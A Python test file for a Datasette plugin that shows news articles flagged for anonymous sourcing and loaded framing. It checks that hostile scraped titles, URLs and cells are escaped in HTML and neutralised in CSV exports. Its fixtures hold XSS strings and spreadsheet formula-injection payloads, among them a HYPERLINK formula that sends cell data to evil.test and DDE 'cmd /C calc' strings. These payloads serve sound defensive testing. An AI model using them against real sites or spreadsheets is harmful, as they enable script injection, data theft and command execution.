"""The Datasette side: reader page, tables, canned queries, dashboards, CSV renderer and
headers, checked in-process with real SQLite files holding hostile scraped content."""

from __future__ import annotations

import csv
import io
import re

import pytest
from datasette.app import Datasette
from plugin_data import (
    HOSTILE_CATEGORY,
    PWN_TITLE,
    TEXT,
    build_db,
    flag_with,
    parse_marks,
)

from db.plugin.app import make_datasette, metadata
from db.plugin.highlight import Mark, css_class, highlight
from db.plugin.palette import FRAMING, SOURCING
from db.plugin.queries import CANNED
from db.plugin.reader import human_time
from db.schema import open_db


@pytest.fixture
def db_path(tmp_path):
    path = tmp_path / "newsprov.db"
    build_db(path)
    return path


@pytest.fixture
def ds(db_path):
    return make_datasette(db_path)


@pytest.fixture
def empty_ds(tmp_path):
    path = tmp_path / "empty.db"
    open_db(str(path)).conn.close()
    return make_datasette(path)


def assert_no_raw_payload(html: str) -> None:
    assert "<script>document.title" not in html
    assert "<img src=x" not in html
    assert "<svg onload" not in html
    assert 'href="javascript:' not in html.lower()
    assert '" onmouseover="' not in html


# -- highlighter ----------------------------------------------------------------------------
def test_highlight_escapes_every_piece_and_nests_overlaps():
    text = "a<b>c&d"
    html = highlight(
        text,
        [
            Mark(0, 4, "sentence", "weasel", 'tip "q" <x>', "f-1"),
            Mark(2, 6, "framing", "doubt", "t", "f-2"),
        ],
    )
    assert "<b>" not in html and "&lt;" in html and "&gt;" in html and "&amp;" in html
    assert 'title="tip &#34;q&#34; &lt;x&gt;"' in html
    # Tags must balance: the framing mark is closed and re-opened at the sentence's end.
    assert html.count("<mark") == 2 and html.count("</mark>") == 2
    assert html.count("<span") == html.count("</span>")
    marks = parse_marks(f'<article><div id="np-text">{html}</div></article>')
    assert marks.text == {"f-1": "a<b>", "f-2": "b>c&"}


def test_highlight_zero_length_and_out_of_range_spans_keep_the_text_whole():
    text = "😀 abc"
    html = highlight(
        text,
        [Mark(2, 2, "framing", "doubt", "z", "f-1"), Mark(4, 99, "framing", "doubt", "o", "f-2")],
    )
    marks = parse_marks(f'<article><div id="np-text">{html}</div></article>')
    assert marks.text["f-1"] == "" and marks.text["f-2"] == "c"
    assert re.sub(r"<[^>]+>", "", str(html)) == text


def test_css_class_keeps_only_safe_characters():
    assert css_class(HOSTILE_CATEGORY) == "x-onmouseover-alert-1"
    assert css_class("loaded_language") == "loaded-language"
    assert css_class(None) == "unknown"


# -- reader page ----------------------------------------------------------------------------
async def test_reader_escapes_hostile_title_authors_outlet_and_url(ds):
    r = await ds.client.get("/-/article/1")
    assert r.status_code == 200
    html = r.text
    assert_no_raw_payload(html)
    assert "Budget &lt;script&gt;document.title=&#39;PWNED&#39;&lt;/script&gt;" in html
    assert "&lt;b&gt;Eve&lt;/b&gt; Reporter, Zoë 😀" in html
    assert "&lt;svg onload=alert(1)&gt;Nation Press" in html
    # A javascript: URL is shown as text, never as a link.
    assert "Original article</a>" not in html
    assert "Original: javascript:alert(document.domain)" in html


async def test_reader_highlights_land_on_the_right_characters_after_an_emoji(ds):
    html = (await ds.client.get("/-/article/1")).text
    marks = parse_marks(html)
    assert marks.text[flag_with(marks, "Emotive word")] == "staggering"
    assert marks.text[flag_with(marks, "Overlap test")] == "budget is stagger"
    assert marks.text[flag_with(marks, "Crossing test")] == "staggering. It is"
    assert marks.text[flag_with(marks, "Scare marker")] == "so-called"
    assert marks.text[flag_with(marks, "Zero-length")] == ""
    first = flag_with(marks, "Unnamed officials")
    assert marks.text[first] == TEXT[: TEXT.index("staggering.") + len("staggering.")]
    assert PWN_TITLE in marks.text[first]  # the payload is there, as text


async def test_reader_marks_carry_label_classes_quote_style_and_focus(ds):
    marks = parse_marks((await ds.client.get("/-/article/1")).text)
    cls = {f: pieces[0]["class"] for f, pieces in marks.pieces.items()}
    assert "src-anonymous-source" in cls[flag_with(marks, "Unnamed officials")]
    assert "cat-loaded-language" in cls[flag_with(marks, "Emotive word")]
    assert "in-quote" in cls[flag_with(marks, "Crossing test")]
    assert "in-quote" not in cls[flag_with(marks, "Emotive word")]
    assert "cat-x-onmouseover-alert-1" in cls[flag_with(marks, "Zero-length")]
    for f, pieces in marks.pieces.items():
        first, *rest = pieces
        assert first["tabindex"] == "0" and first["id"] == f and first["data-tip"]
        assert all("tabindex" not in p for p in rest)  # one focus stop per flag
    tip = marks.pieces[flag_with(marks, "Unnamed officials")][0]["title"]
    assert "Anonymous source" in tip and "cue: “said”" in tip and "source: Officials" in tip


async def test_reader_side_panel_lists_flags_in_order_with_counts(ds):
    html = (await ds.client.get("/-/article/1")).text
    panel = html[html.index('id="flags"') :]
    items = re.findall(r'<li id="d-(f-\d+)"', panel)
    assert items == [f"f-{n}" for n in range(1, len(items) + 1)]
    assert len(items) == 8  # 3 unsourced sentences + 5 framing spans
    assert re.search(r"<dt>Unsourced assertions</dt><dd>3</dd>", panel)
    assert re.search(r"<dt>Framing phrases</dt><dd>5</dd>", panel)
    assert "Unnamed officials &lt;i&gt;said&lt;/i&gt;" in panel
    assert "framing.loaded.staggering" in panel


async def test_reader_flag_count_matches_the_csv_and_named_sources_are_context(ds):
    html = (await ds.client.get("/-/article/1")).text
    shown = int(re.search(r'<h2>Flags <span class="np-count">(\d+)</span>', html).group(1))
    csv_rows = list(
        csv.DictReader(
            io.StringIO((await ds.client.get("/newsprov/articles/1.xlcsv")).text.lstrip("\ufeff"))
        )
    )
    assert shown == len(csv_rows) == 8
    panel = html[html.index('id="flags"') : html.index("</aside>")]
    flag_list = panel[panel.index('class="np-flags"') : panel.index("</ol>")]
    assert "Named source" not in flag_list  # not a flag...
    context = panel[panel.index('id="np-context-h"') :]
    assert 'class="np-count np-count-context">1<' in context  # ...but shown as context
    assert "Minister Ana Ruiz" in context and 'href="#n-1"' in context
    marks = parse_marks(html)
    assert marks.text["n-1"] == "Minister Ana Ruiz said the plan worked."
    assert "src-named-source" in marks.pieces["n-1"][0]["class"]


async def test_reader_shows_readable_times_with_iso_in_time_elements(ds):
    html = (await ds.client.get("/-/article/1")).text
    assert '<time datetime="2026-11-20T10:00:00Z">20 Nov 2026, 10:00 UTC</time>' in html
    related = html[html.index('id="np-related-h"') : html.index('id="np-trails-h"')]
    assert '<time datetime="2026-11-19T09:00:00Z">19 Nov 2026, 09:00 UTC</time>' in related
    head = html[html.index('class="np-meta"') : html.index('class="np-legend"')]
    assert "T10:00:00Z<" not in head  # the raw ISO form is only in the attribute


def test_human_time_formats_and_passes_odd_values_through():
    assert human_time("2025-02-26T06:30:00Z") == "26 Feb 2025, 06:30 UTC"
    assert human_time("2025-02-26T08:30:00+02:00") == "26 Feb 2025, 06:30 UTC"
    assert human_time("2025-02-26") == "26 Feb 2025"
    assert human_time("yesterday <b>") == "yesterday <b>"  # escaped by the template
    assert human_time(None) == ""


async def test_reader_wraps_long_rule_ids_inside_the_side_panel(ds, db_path):
    long_id = "framing.loaded_language.an_extraordinarily_long_entry_identifier_for_a_phrase"
    db = open_db(str(db_path))
    with db.conn:
        db.conn.execute("UPDATE framing SET entry = ? WHERE framing_id = 1", (long_id,))
    db.conn.close()
    html = (await ds.client.get("/-/article/1")).text
    rule = re.search(
        r'<p class="np-rule">Rule: <code title="(framing\.loaded_language[^"]+)">(.*?)</code>',
        html,
    )
    assert rule.group(1) == long_id  # the whole id on hover
    assert rule.group(2).count("<wbr>") >= 10  # a break after every dot and underscore
    assert re.sub(r"<wbr>", "", rule.group(2)) == long_id
    css = (await ds.client.get(re.search(r'href="([^"]+reader\.css)"', html).group(1))).text
    assert "overflow-wrap: anywhere" in css


async def test_reader_says_how_related_coverage_was_found(ds, db_path):
    db = open_db(str(db_path))
    with db.conn:
        db.conn.execute(
            "INSERT INTO articles (article_id, url, outlet_id, title, text, word_count,"
            " extractor, created_at, updated_at) VALUES (4, 'https://four.test/x', 'wire.test',"
            " 'Four', 'Four.', 1, 'newspaper', '2026-11-28T00:00:00Z', '2026-11-28T00:00:00Z')"
        )
        db.conn.execute(
            "INSERT INTO related (article_id, other_article_id, method, same_story, created_at)"
            " VALUES (1, 4, 'user', 1, '2026-11-28T00:00:00Z')"
        )
    db.conn.close()
    html = (await ds.client.get("/-/article/1")).text
    found = dict(re.findall(r'data-method="([a-z_]+)">([^<]+)<', html))
    assert found == {
        "links": "linked from the article",
        "feed": "this article was found from it: found in the outlet&#39;s feed",
        "user": "you listed it",
    }
    assert "found via user" not in html


# -- one palette, in the reader and the dashboards ---------------------------------------------
async def test_reader_legend_names_every_label_with_its_code_and_colour(ds):
    html = (await ds.client.get("/-/article/1")).text
    legend = html[html.index('class="np-legend"') : html.index('id="np-text"')]
    for p in SOURCING:
        assert f'data-label="{p.label}"' in legend and f"src-{css_class(p.label)}" in legend
        rule = f".src-{css_class(p.label)} {{ background: {p.tint}; --np-strong: {p.strong};"
        assert rule in html  # the colour...
        assert f'content: "{p.code}"' in html  # ...and a code, so colour is not the only cue
    for f in FRAMING:
        assert f'data-label="{f.category}"' in legend
        assert f"text-decoration-color: {f.colour}; text-decoration-style: {f.style};" in html
    styles = {f.style for f in FRAMING}
    assert len(styles) == len(FRAMING)  # each category its own line style
    assert "(context)" in legend  # named sources are not flags


def test_palette_is_colour_blind_safe_distinct_and_shared_with_the_dashboards():
    tints = [p.tint for p in SOURCING]
    strongs = [p.strong for p in SOURCING]
    codes = [p.code for p in SOURCING] + [f.code for f in FRAMING]
    assert len(set(tints)) == len(set(strongs)) == len(SOURCING)
    assert len(set(codes)) == len(codes)
    # Paul Tol's pale/bright and Okabe-Ito colours only.
    tol = {"#CCDDAA", "#EEEEBB", "#BBCCEE", "#CCEEFF", "#DDDDDD", "#FFCCCC"}
    assert set(tints) <= tol
    charts = metadata("newsprov")["plugins"]["datasette-dashboards"]
    for dash in charts.values():
        for slug, chart in dash["charts"].items():
            enc = chart.get("display", {}).get("encoding", {}) if slug != "intro" else {}
            if slug == "sourcing-mix":
                assert enc["color"]["scale"]["range"] == strongs
                assert enc["color"]["scale"]["domain"][1] == "A · anonymous source"
            if slug == "framing-mix":
                assert enc["color"]["scale"]["range"] == [f.colour for f in FRAMING]


async def test_dashboard_sourcing_mix_reads_sourcing_counts_with_codes(ds):
    chart = metadata("newsprov")["plugins"]["datasette-dashboards"]["newsprov-overview"]
    sql = re.sub(r"\[\[.*?\]\]", "", chart["charts"]["sourcing-mix"]["query"])
    assert "sourcing_counts" in sql
    # sentences are read only for the routine ones it subtracts, inside the tier index
    plan = (
        await ds.client.get(
            "/newsprov.json", params={"sql": f"EXPLAIN QUERY PLAN {sql}", "_shape": "array"}
        )
    ).json()
    sentence_steps = [p["detail"] for p in plan if "sentences" in p["detail"]]
    assert sentence_steps and all(
        "COVERING INDEX idx_sentences_unsourced_tier" in d for d in sentence_steps
    ), sentence_steps
    r = await ds.client.get("/newsprov.json", params={"sql": sql, "_shape": "array"})
    rows = {(x["outlet"], x["sourcing"]): (x["code"], x["n"]) for x in r.json()}
    assert rows[("nationpress.test", "A · anonymous source")] == ("A", 1)
    assert rows[("wire.test", "N · named source")] == ("N", 1)


async def test_reader_shows_related_coverage_and_claim_trail(ds):
    html = (await ds.client.get("/-/article/1")).text
    related = html[html.index('id="np-related-h"') : html.index('id="np-trails-h"')]
    assert related.index("Same story") < related.index("Syndicated copies of")
    assert 'href="/-/article/2"' in related and 'href="/-/article/3"' in related
    assert 'href="https://wire.test/story?a=1&amp;b=&lt;x&gt;"' in related
    trails = html[html.index('id="np-trails-h"') :]
    assert "Earliest named origin:</strong> Minister Ana Ruiz" in trails
    assert "Conflicting figure</strong> for deaths &lt;i&gt;: here 685" in trails
    assert "says 700" in trails


async def test_reader_stylesheet_is_served(ds):
    html = (await ds.client.get("/-/article/1")).text
    href = re.search(r'<link rel="stylesheet" href="([^"]+reader\.css)"', html).group(1)
    r = await ds.client.get(href)
    assert r.status_code == 200 and ".np-text" in r.text


async def test_reader_unknown_article_is_a_404_that_says_what_to_do(ds, empty_ds):
    r = await ds.client.get("/-/article/999")
    assert r.status_code == 404 and "check the articles table" in r.text
    r = await empty_ds.client.get("/-/article/1")
    assert r.status_code == 404


async def test_reader_sends_security_headers_with_no_inline_scripts(ds):
    r = await ds.client.get("/-/article/1")
    csp = r.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline'" not in csp.split("script-src")[1]
    assert "frame-ancestors 'none'" in csp
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["x-frame-options"] == "DENY"
    assert r.headers["referrer-policy"] == "no-referrer"
    r = await ds.client.get("/newsprov")
    assert "'unsafe-inline'" in r.headers["content-security-policy"]  # Datasette needs it


# -- tables, facets, search, queries ----------------------------------------------------------
async def test_article_id_cells_link_to_the_reader(ds):
    html = (await ds.client.get("/newsprov/sentences")).text
    assert 'href="/-/article/1"' in html
    html = (await ds.client.get("/newsprov/related")).text
    assert 'href="/-/article/2"' in html
    html = (await ds.client.get("/newsprov/unsourced_assertions")).text
    assert 'href="/-/article/1"' in html
    assert_no_raw_payload(html)


async def test_article_titles_link_to_the_reader_and_row_pages_escape(ds):
    html = (await ds.client.get("/newsprov/articles")).text
    assert '<a href="/-/article/1">Budget &lt;script&gt;' in html
    for path in (
        "/newsprov/articles/1",
        "/newsprov/outlets/nationpress~2Etest",
        "/newsprov/sentences/1",
    ):
        r = await ds.client.get(path)
        assert r.status_code == 200, path
        assert_no_raw_payload(r.text)


@pytest.mark.parametrize(
    "path, facet",
    [
        ("/newsprov/articles", "outlet_id"),
        ("/newsprov/sentences", "sourcing"),
        ("/newsprov/framing", "category"),
        ("/newsprov/articles", "published"),
    ],
)
async def test_table_pages_show_facets(ds, path, facet):
    r = await ds.client.get(path + ".json?_size=1")
    assert r.status_code == 200
    data = r.json()
    names = set(data["facet_results"])
    assert facet in names, names


async def test_article_table_has_description_and_published_date_facet(ds):
    html = (await ds.client.get("/newsprov/articles")).text
    assert "Open the reader page" in html
    assert "2026-11-20" in html  # the date facet's bucket
    assert_no_raw_payload(html)


async def test_full_text_search_on_articles_and_sentences(ds):
    r = await ds.client.get("/newsprov/articles.json?_search=staggering&_shape=array")
    assert [row["article_id"] for row in r.json()] == [1]
    r = await ds.client.get("/newsprov/sentences.json?_search=critics&_shape=array")
    assert [row["sentence_id"] for row in r.json()] == [3]


@pytest.mark.parametrize("name", sorted(CANNED))
async def test_canned_queries_run_on_full_and_empty_databases(ds, empty_ds, name):
    r = await ds.client.get(f"/newsprov/{name}.json?_shape=array")
    assert r.status_code == 200, r.text
    assert r.json(), f"{name} returned no rows on the fixture"
    html = (await ds.client.get(f"/newsprov/{name}")).text
    assert_no_raw_payload(html)
    r = await empty_ds.client.get(f"/empty/{name}.json?_shape=array")
    assert r.status_code == 200 and r.json() == []


async def test_canned_query_answers(ds):
    async def rows(name):
        return (await ds.client.get(f"/newsprov/{name}.json?_shape=array")).json()

    unsourced = await rows("unsourced_assertions")
    assert [r["sentence_number"] for r in unsourced] == [1, 2, 3]
    share = {r["outlet"]: r for r in await rows("anonymous_vague_share")}
    assert share["nationpress.test"]["anonymous_or_vague_pct"] == 25.0
    assert share["wire.test"]["anonymous_or_vague_pct"] == 0.0
    framing = {r["outlet"]: r for r in await rows("framing_per_1000_words")}
    words = framing["nationpress.test"]["words"]
    assert framing["nationpress.test"]["loaded_language"] == round(1000 / words, 2)
    assert framing["nationpress.test"]["presupposition"] == 0  # only quoted: not counted
    assert framing["wire.test"]["all_framing"] == 0  # annotated, nothing flagged
    conflicts = await rows("conflicting_figures")
    assert conflicts[0]["figure_here"] == "685" and conflicts[0]["figure_there"] == "700"
    no_origin = await rows("claims_without_named_origin")
    # Claim 1 has a named origin on wire.test; the critics' claim is found nowhere else.
    assert [(r["article_id"], r["sentence_number"]) for r in no_origin] == [(1, 3)]
    review = await rows("articles_needing_review")
    assert review[0]["article_id"] == 1 and review[0]["score"] == 3 + 3 + 3


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/newsprov",
        "/empty",
        "/-/dashboards",
        "/-/dashboards/newsprov-overview",
        "/-/dashboards/newsprov-outlet?outlet=wire.test",
    ],
)
async def test_pages_work_on_full_and_empty_databases(ds, empty_ds, path):
    assert (await ds.client.get(path.replace("/empty", "/newsprov"))).status_code == 200
    empty_path = path.replace("/newsprov-", "/newsprov-").replace("/newsprov", "/empty")
    if "dashboards" in path:
        # Dashboards are configured per database name; build them for the empty file too.
        empty = Datasette([empty_ds.databases["empty"].path], metadata=metadata("empty"))
        assert (await empty.client.get(path)).status_code == 200
    else:
        assert (await empty_ds.client.get(empty_path)).status_code == 200


async def test_empty_database_tables_render(empty_ds):
    for table in ("articles", "sentences", "framing", "related", "claims", "claim_matches"):
        r = await empty_ds.client.get(f"/empty/{table}")
        assert r.status_code == 200, table


async def test_dashboard_chart_queries_run(ds):
    conf = metadata("newsprov")["plugins"]["datasette-dashboards"]
    for dash in conf.values():
        for slug, chart in dash["charts"].items():
            if "query" not in chart:
                continue
            sql = re.sub(r"\[\[.*?\]\]", "", chart["query"])
            r = await ds.client.get("/newsprov.json", params={"sql": sql, "_shape": "array"})
            assert r.status_code == 200, (slug, r.text)
            assert r.json(), slug


# -- CSV for editors --------------------------------------------------------------------------
async def test_flags_csv_renderer_is_excel_safe_and_complete(ds):
    r = await ds.client.get("/newsprov/articles/1.xlcsv")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    body = r.content
    assert body.startswith("\ufeff".encode())
    assert b"\r\n" in body
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 3 + 5  # unsourced sentences + framing spans, nothing capped
    assert {r["article_id"] for r in rows} == {"1"}
    urls = {r["article_url"] for r in rows}
    assert urls == {"javascript:alert(document.domain)//http://x"}
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


async def test_flags_csv_renderer_is_not_capped_at_one_page(ds, db_path):
    db = open_db(str(db_path))
    with db.conn:
        db.conn.executemany(
            "INSERT INTO framing (article_id, start, end, text, category, reason)"
            " VALUES (2, ?, ?, '=1+1', 'doubt', '@cmd')",
            [(i, i + 1) for i in range(0, 1500)],
        )
    db.conn.close()
    r = await ds.client.get("/newsprov/framing.xlcsv?_size=10")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 1500 + 5
    assert sum(1 for row in rows if row["cue_or_phrase"] == "'=1+1") == 1500
    assert all(row["flag_type"] == "framing" for row in rows)


async def test_flags_csv_link_is_offered_on_the_reader_and_tables(ds):
    assert 'href="/newsprov/articles/1.xlcsv"' in (await ds.client.get("/-/article/1")).text
    html = (await ds.client.get("/newsprov/sentences")).text
    assert ".xlcsv" in html
    r = await ds.client.get("/newsprov/articles.xlcsv?flags=nonsense")
    assert r.status_code == 400 and "use unsourced, framing or both" in r.text


def test_metadata_names_tables_that_exist(tmp_path):
    path = tmp_path / "x.db"
    db = open_db(str(path))
    tables = set(db.table_names())
    meta = metadata("x")["databases"]["x"]
    assert set(meta["tables"]) <= tables
    for conf in meta["tables"].values():
        if "fts_table" in conf:
            assert conf["fts_table"] in tables


# -- through the real write layer -----------------------------------------------------------
async def test_reader_on_a_story_saved_by_the_store(tmp_path):
    from db_builders import TEXT as STORE_TEXT
    from db_builders import annotation, extracted, fetched

    from db import store

    path = tmp_path / "stored.db"
    db = open_db(str(path))
    url = "http://nationpress.test/news/story"
    run_id = store.start_run(db, "scrape", {"urls": [url]})
    fetch_id = store.save_fetch(db, fetched(url), run_id)
    article_id = store.save_article(db, extracted(url), fetch_id, url, is_seed=True)
    store.save_annotation(db, article_id, annotation(STORE_TEXT), run_id)
    store.finish_run(db, run_id, "ok", {"inputs": 1})
    db.conn.close()

    ds = make_datasette(path)
    r = await ds.client.get(f"/-/article/{article_id}")
    assert r.status_code == 200
    marks = parse_marks(r.text)
    texts = sorted(marks.text.values())
    # The emoji before every span must not shift a single mark.
    for phrase in ("draconian", "so-called", "regime", "reveal"):
        assert phrase in texts, phrase
    assert "🚨 Officials familiar with the matter said 685 people were killed." in texts
    assert 'href="http://nationpress.test/news/story"' in r.text
    for name in CANNED:
        r = await ds.client.get(f"/stored/{name}.json?_shape=array")
        assert r.status_code == 200, (name, r.text)
    framing = (await ds.client.get("/stored/framing_per_1000_words.json?_shape=array")).json()
    assert framing[0]["outlet"] == "nationpress.test" and framing[0]["presupposition"] > 0


async def test_reader_survives_a_malformed_conflict_cell(ds, db_path):
    db = open_db(str(db_path))
    with db.conn:
        db.conn.execute('UPDATE claim_matches SET conflict = \'{"quantity": "x"}\'')
    db.conn.close()
    r = await ds.client.get("/-/article/1")
    assert r.status_code == 200
    assert "The claim trail could not be read" in r.text  # the rest of the page still shows
    assert parse_marks(r.text).text
    r = await ds.client.get("/newsprov/conflicting_figures.json?_shape=array")
    assert r.status_code == 200


# -- every CSV Datasette serves is formula-safe ---------------------------------------------
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "\t=1+1",
    "  =1+1",
    '=multi\nline, "quoted"\r\n=again',
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def assert_formula_safe(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), body[:20]  # UTF-8 BOM: Excel reads accents right
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            if re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
                continue  # a plain number stays a number
            assert not cell.lstrip(" ").startswith(FORMULA_START), (cell, row)
    return rows


@pytest.fixture
def hostile_ds(db_path):
    db = open_db(str(db_path))
    with db.conn:
        db.conn.execute("UPDATE articles SET title = ? WHERE article_id = 1", (HOSTILE_CELLS[0],))
        db.conn.execute(
            "UPDATE outlets SET name = ? WHERE outlet_id = 'wire.test'", (HOSTILE_CELLS[1],)
        )
        for sid, cell in zip((1, 2, 3), HOSTILE_CELLS[2:5], strict=True):
            db.conn.execute("UPDATE sentences SET text = ? WHERE sentence_id = ?", (cell, sid))
        db.conn.execute(
            "UPDATE sentences SET reason = ? WHERE sentence_id = 1", (HOSTILE_CELLS[5],)
        )
        db.conn.execute("UPDATE sentences SET cue = ? WHERE sentence_id = 2", (HOSTILE_CELLS[6],))
        # Enough rows that the stream comes in many chunks, each row with a formula and
        # a multi-byte character, to catch any cut inside a quoted field or a character.
        db.conn.executemany(
            "INSERT INTO framing (article_id, start, end, text, category, reason)"
            " VALUES (2, ?, ?, ?, 'doubt', '@cmd')",
            [(i, i + 1, f'=1+{i}, "Zoë 😀"\n') for i in range(3000)],
        )
    db.conn.close()
    return make_datasette(db_path)


@pytest.mark.parametrize(
    "path",
    [
        "/newsprov/articles.csv",
        "/newsprov/articles.csv?_dl=on",
        "/newsprov/sentences.csv?_stream=on",
        "/newsprov/framing.csv?_stream=on&_size=max",
        "/newsprov/outlets/wire~2Etest.csv",
        "/newsprov/unsourced_assertions.csv",
        "/newsprov/unsourced_assertions.csv?_stream=on&_dl=on",
        "/newsprov.csv?sql=select+title,+-5+as+n,+'%3D1%2B1'+as+f+from+articles",
    ],
)
async def test_builtin_csv_downloads_are_formula_safe_with_a_bom(hostile_ds, path):
    r = await hostile_ds.client.get(path)
    assert r.status_code == 200, r.text[:300]
    rows = assert_formula_safe(r.content)
    cells = {c for row in rows for c in row}
    assert len(rows) >= 2
    if "framing.csv" in path:
        assert len(rows) == 1 + 5 + 3000  # header, fixture spans, every streamed row
        assert '\'=1+2999, "Zoë 😀"\n' in cells  # neutralised, quoted and whole
    if "sentences.csv" in path:
        assert "'+1+cmd|' /C calc'!A0" in cells and "'-2+3+cmd" in cells
        assert "'\t=1+1" in cells and "'  =1+1" in cells
    if "articles.csv" in path or "sql=" in path:
        assert "'" + HOSTILE_CELLS[0] in cells
    if "sql=" in path:
        assert rows[1][1:] == ["-5", "'=1+1"]
    if "outlets" in path:
        assert "'" + HOSTILE_CELLS[1] in cells
    if "_dl=on" in path:
        assert r.headers["content-type"].startswith("text/csv")
        assert "attachment" in r.headers["content-disposition"]


async def test_csv_error_and_trace_pages_are_left_alone(hostile_ds):
    r = await hostile_ds.client.get("/newsprov/no_such_table.csv")
    assert r.status_code == 404 and not r.content.startswith(b"\xef\xbb\xbf")
    r = await hostile_ds.client.get("/newsprov/articles.json")
    assert r.status_code == 200 and r.json()["rows"][0][6] == HOSTILE_CELLS[0]  # JSON is data


@pytest.mark.parametrize("seed", range(5))
def test_csv_rewriter_handles_any_chunking(seed):
    import random

    from db.plugin.csvsafe import CsvRewriter, safe_cell

    rng = random.Random(seed)
    rows = [["a", "b", "c"]] + [
        [rng.choice(HOSTILE_CELLS), f"Zoë 😀 {i}", str(rng.randint(-50, 50))] for i in range(200)
    ]
    src, want = io.StringIO(), io.StringIO()
    csv.writer(src).writerows(rows)  # Datasette's dialect
    csv.writer(want, lineterminator="\r\n").writerows([[safe_cell(c) for c in r] for r in rows])
    data = src.getvalue().encode("utf-8")
    out, rewriter, pos = [], CsvRewriter(), 0
    while pos < len(data):
        step = rng.randint(1, 40)  # cuts inside characters, quoted fields and line ends
        out.append(rewriter.feed(data[pos : pos + step]))
        pos += step
    out.append(rewriter.feed(b"", final=True))
    assert b"".join(out).decode("utf-8") == "\ufeff" + want.getvalue()


# -- errors: a helpful page, a quiet console ----------------------------------------------------
async def test_not_found_and_forbidden_print_nothing_but_show_a_helpful_page(ds, db_path, capfd):
    for path, status, says in [
        ("/newsprov/articles/999", 404, "not found"),
        ("/-/article/999", 404, "check the articles table"),
        ("/newsprov/no_such_table", 404, "not found"),
        ("/newsprov/articles/999.json", 404, "not found"),
    ]:
        r = await ds.client.get(path)
        assert r.status_code == status, path
        assert says in r.text.lower(), (path, r.text[:300])
    locked = Datasette(
        [str(db_path)],
        metadata={"databases": {"newsprov": {"tables": {"runs": {"allow": False}}}}},
    )
    r = await locked.client.get("/newsprov/runs")
    assert r.status_code == 403
    out, err = capfd.readouterr()
    assert out == "" and err == "", (out + err)[:2000]


async def test_a_real_error_logs_one_useful_line(db_path, capfd):
    from datasette import hookimpl
    from datasette.plugins import pm

    class Boom:
        __name__ = "newsprov_test_boom"  # Datasette lists plugins by module name

        @hookimpl
        def register_routes(self):
            async def boom(request):
                raise RuntimeError("the database is on fire")

            return [(r"^/-/boom$", boom)]

    pm.register(Boom(), name="test-boom")
    try:
        ds = make_datasette(db_path)
        r = await ds.client.get("/-/boom?x=1")
    finally:
        pm.unregister(name="test-boom")
    assert r.status_code == 500 and "the database is on fire" in r.text
    out, err = capfd.readouterr()
    lines = [ln for ln in (out + err).splitlines() if ln.strip()]
    assert len(lines) == 1, lines[:20]
    assert lines[0].startswith("500 GET /-/boom?x=1: RuntimeError: the database is on fire (")
    assert "test_plugin.py:" in lines[0]
